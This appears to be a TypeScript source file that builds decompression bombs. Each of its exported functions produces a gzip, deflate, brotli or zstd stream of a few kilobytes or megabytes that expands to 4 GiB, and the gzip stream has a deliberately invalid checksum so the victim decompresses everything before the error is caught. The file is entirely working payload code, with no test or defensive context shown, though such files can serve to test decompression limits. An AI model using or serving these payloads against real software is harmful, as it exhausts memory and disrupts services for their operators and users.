import { constants, createBrotliCompress, deflateRawSync } from 'node:zlib'

export const BOMB_BYTES = 4 * 1024 ** 3

const CHUNK = Buffer.alloc(64 * 1024 * 1024)

/** 4 GiB of zeros in some 4 MB. A full flush makes the bytes of a chunk independent of what is before, so one is enough. */
export function gzipBomb(): Buffer {
  const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255])
  const chunk = deflateRawSync(CHUNK, { level: 9, finishFlush: constants.Z_FULL_FLUSH })
  const lastBlock = Buffer.from([3, 0])
  // The checksum is wrong; whoever gets as far as to notice has swallowed all of it.
  return Buffer.concat([
    header,
    ...Array.from({ length: BOMB_BYTES / CHUNK.length }, () => chunk),
    lastBlock,
    Buffer.alloc(8),
  ])
}

/** The same as zlib, which HTTP means by `deflate`. */
export function deflateBomb(): Buffer {
  const gzip = gzipBomb()
  return Buffer.concat([Buffer.from([0x78, 0xda]), gzip.subarray(10, -8), Buffer.alloc(4)])
}

/** 4 GiB of zeros in some kilobytes. */
export async function brotliBomb(): Promise<Buffer> {
  const compressor = createBrotliCompress({
    params: { [constants.BROTLI_PARAM_QUALITY]: 1, [constants.BROTLI_PARAM_LGWIN]: 24 },
  })
  const parts: Buffer[] = []
  compressor.on('data', (part) => parts.push(part))
  for (let bytes = 0; bytes < BOMB_BYTES; bytes += CHUNK.length) {
    if (!compressor.write(CHUNK)) await new Promise((drained) => compressor.once('drain', drained))
  }
  compressor.end()
  await new Promise((ended) => compressor.once('end', ended))
  return Buffer.concat(parts)
}

const ZSTD_BLOCK = 128 * 1024

/** 4 GiB of zeros in 128 KB: RFC 8878 blocks of one repeated byte, each worth the largest size a block may have. */
export function zstdBomb(): Buffer {
  // Magic number, then a frame header without content size and with a window of 8 MiB.
  const header = Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x68])
  const count = BOMB_BYTES / ZSTD_BLOCK
  const blocks = Buffer.alloc(count * 4)
  for (let block = 0; block < count; block++) {
    const last = block === count - 1 ? 1 : 0
    blocks.writeUIntLE((ZSTD_BLOCK << 3) | (1 << 1) | last, block * 4, 3)
  }
  return Buffer.concat([header, blocks])
}
